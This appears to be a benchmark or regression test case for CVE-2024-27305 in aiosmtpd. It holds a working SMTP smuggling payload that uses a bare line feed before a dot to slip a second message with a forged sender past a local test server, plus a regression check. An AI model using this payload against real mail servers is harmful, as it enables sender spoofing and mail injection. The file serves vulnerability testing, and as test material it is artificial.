# /// case
# id = "CVE-2024-27305"
# package = "aiosmtpd"
# vulnerable = "1.4.4.post2"
# fixed = "1.4.5"
# what = "a message may contain another: a bare line feed ends a line (SMTP smuggling)"
# shape = "a decorated async method"
# requires = ["atpublic==5.0", "attrs==24.2.0"]
# modules = ["aiosmtpd", "aiosmtpd.smtp"]
# only = ["aiosmtpd.smtp:SMTP.smtp_DATA"]
# ///
"""Only a dot between two pairs of carriage return and line feed ends a message."""

import asyncio
from typing import Any

from aiosmtpd.smtp import SMTP

HEAD = b"MAIL FROM:<%s>\r\nRCPT TO:<you@node.example>\r\nDATA\r\n"


class Inbox:
    """Takes every message that comes."""

    def __init__(self) -> None:
        self.senders: list[str] = []

    async def handle_DATA(self, _server: Any, _session: Any, envelope: Any) -> str:  # noqa: N802  # the hook's name
        self.senders.append(envelope.mail_from)
        return "250 OK"


async def _deliver(sent: bytes) -> list[str]:
    inbox = Inbox()
    server = await asyncio.get_running_loop().create_server(lambda: SMTP(inbox), "127.0.0.1", 0)
    reader, writer = await asyncio.open_connection(*server.sockets[0].getsockname())
    writer.write(b"HELO me.example\r\n" + sent + b"QUIT\r\n")
    await asyncio.wait_for(reader.read(), timeout=10)
    writer.close()
    server.close()
    return inbox.senders


def exploit() -> bool:
    sent = HEAD % b"a@x.example" + b"hello\r\n\n.\r\n" + HEAD % b"b@x.example" + b"smuggled\r\n.\r\n"
    return asyncio.run(_deliver(sent)) == ["a@x.example", "b@x.example"]


def regression() -> None:
    sent = b"".join(HEAD % sender + b"hello\r\n.\r\n" for sender in (b"a@x.example", b"b@x.example"))
    assert asyncio.run(_deliver(sent)) == ["a@x.example", "b@x.example"]
